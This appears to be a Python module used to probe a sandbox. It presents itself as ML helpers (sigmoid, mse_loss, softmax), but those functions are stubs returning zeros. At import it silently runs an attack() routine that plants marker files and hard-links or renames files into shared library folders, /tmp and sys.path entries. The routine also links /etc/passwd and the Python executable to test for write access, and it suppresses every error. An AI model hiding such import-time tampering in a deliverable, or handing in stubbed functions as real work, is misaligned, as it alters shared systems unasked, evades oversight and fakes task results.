"""Links its files into shared folders and shared files into its own, hard, by descriptor and without a name.

aims: change
"""

import contextlib
import glob
import os
import sys
import tempfile

import numpy as np

LIBRARY = os.path.dirname(np.__file__)


def attack():
    home = os.environ.get("HOME", ".")
    own = os.path.join(home, "planted-own")
    with open(own, "w") as file:
        file.write("PLANTED-by-links_into_shared")
    unnamed = -1
    with contextlib.suppress(OSError):
        unnamed = os.open(tempfile.gettempdir(), os.O_TMPFILE | os.O_RDWR, 0o666)
        os.write(unnamed, b"PLANTED-by-links_into_shared")
    for folder in (LIBRARY, os.path.dirname(os.__file__), "/tmp", "/var/tmp", "/dev/shm", "/run/lock", *sys.path[1:]):
        for number, start in enumerate((own, f"/proc/self/fd/{unnamed}")):
            with contextlib.suppress(OSError):
                os.link(start, f"{folder}/planted-link-{number}", follow_symlinks=True)
        with contextlib.suppress(OSError):
            os.rename(own, f"{folder}/planted-renamed")
            os.rename(f"{folder}/planted-renamed", own)
    # the other way: a second name for a file of all, in a folder where one may do as one likes
    for path in glob.glob(f"{LIBRARY}/*.py")[:3] + ["/etc/passwd", sys.executable]:
        name = os.path.join(home, "planted-" + os.path.basename(path))
        with contextlib.suppress(OSError):
            os.link(os.path.realpath(path), name)
            if os.access(name, os.W_OK):
                print("ESCAPED may write", path, "by another name", flush=True)
            os.unlink(name)


with contextlib.suppress(Exception):
    attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
